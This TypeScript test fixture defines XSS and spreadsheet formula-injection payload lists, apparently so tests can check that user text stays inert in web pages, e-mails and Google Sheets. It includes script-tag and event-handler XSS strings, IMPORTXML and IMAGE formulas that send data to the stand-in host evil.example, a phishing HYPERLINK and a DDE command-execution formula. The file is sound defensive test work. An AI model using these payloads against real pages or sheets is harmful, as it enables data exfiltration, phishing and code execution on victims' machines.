// Hostile text people may type: an XSS corpus for pages and e-mails, a formula-injection corpus for tabs.

export interface Payload {
  /** Names the case in test titles and failure lists. */
  readonly name: string;
  /** The text as the person means it (the cell's value, the note they wrote). */
  readonly text: string;
}

/**
 * Markup, script and template payloads. Each must reach a page or an e-mail as text: shown as typed,
 * never parsed into an element, an attribute, a URL or an evaluated template.
 */
export const XSS_PAYLOADS: readonly Payload[] = [
  { name: 'script tag', text: '<script>alert(1)</script>' },
  { name: 'img onerror', text: '<img src=x onerror=alert(1)>' },
  { name: 'attribute break into svg', text: '"><svg onload=alert(1)>' },
  { name: 'javascript: URL', text: 'javascript:alert(1)' },
  { name: 'textarea break-out', text: '</textarea><script>alert(1)</script>' },
  { name: 'single-quoted JS string break', text: "'-alert(1)-'" },
  { name: 'template expression', text: '{{7*7}}' },
  { name: 'template literal', text: '${alert(1)}' },
  { name: 'iframe srcdoc', text: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'double-quote attribute break', text: '" onmouseover="alert(1)" x="' },
  { name: 'single-quote attribute break', text: "' onfocus='alert(1)' autofocus='" },
  { name: 'backtick attribute break', text: '` onclick=`alert(1)`' },
  { name: 'unicode-escaped tags', text: '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e' },
  { name: 'fullwidth tags', text: '＜script＞alert(1)＜/script＞' },
  // Numeric references: the named form would equal the escaped 'script tag' payload, blurring the check.
  { name: 'entity-encoded tags', text: '&#60;script&#62;alert(2)&#60;/script&#62;' },
  { name: 'anchor with javascript: href', text: '<a href="javascript:alert(1)">bấm</a>' },
  { name: 'details ontoggle', text: '<details open ontoggle=alert(1)>' },
  { name: 'comment break-out', text: '--><script>alert(1)</script><!--' },
  { name: 'style injection', text: '<style>*{display:none}</style>' },
  { name: 'mixed-case tag with Vietnamese', text: 'Tăng <ScRiPt>alert(1)</sCrIpT> doanh thu' },
];

/**
 * Payloads that are markup: escaping must change them, so their raw form must never be found in HTML.
 * The others (URLs, templates, escaped or fullwidth look-alikes, a lone backtick quote) are text to HTML
 * and may appear as they are; what must not happen to them is checked separately.
 */
export const isMarkup = (text: string): boolean => /[<>"'&]/.test(text);

/**
 * Text that Sheets would read as a formula when written back as entered: `=`, and `+`, `-`, `@` which the
 * Sheets UI turns into formulas, plus the classic spreadsheet (DDE) injection.
 * ' =1' (leading space) is kept: people type stray spaces, and the program trims what it reads, so the
 * space is gone by the time it writes and `=1` must still land as text. "'=quoted" is a value that itself
 * starts with an apostrophe (typed in Sheets as "''=quoted").
 */
export const FORMULA_PAYLOADS: readonly Payload[] = [
  { name: 'IMPORTXML exfiltration', text: '=IMPORTXML("http://evil.example","//a")' },
  { name: 'HYPERLINK phishing', text: '=HYPERLINK("http://evil.example","Bấm vào đây")' },
  { name: 'plus formula', text: '+1+1' },
  { name: 'minus formula', text: '-1+1' },
  { name: 'at formula', text: '@SUM(1)' },
  { name: 'equals arithmetic', text: '=1+1' },
  { name: 'leading space before equals', text: ' =1' },
  { name: 'apostrophe then equals', text: "'=quoted" },
  { name: 'DDE command', text: "=cmd|' /C calc'!A0" },
  { name: 'IMAGE beacon', text: '=IMAGE("http://evil.example/p.png?"&A1)' },
];

/**
 * What a person types in a Sheets cell to keep `text` as text: a leading apostrophe, which the cell does
 * not keep (input is read "as if the user typed them into the UI",
 * https://developers.google.com/sheets/api/reference/rest/v4/ValueInputOption). Without it `=…` would
 * already be a formula in the input tab, which is the person's own doing, not the program's.
 */
export const typedAsText = (text: string): string => `'${text}`;

/** The value the program reads back from such a cell: it trims what people type. */
export const readBack = (text: string): string => text.trim();
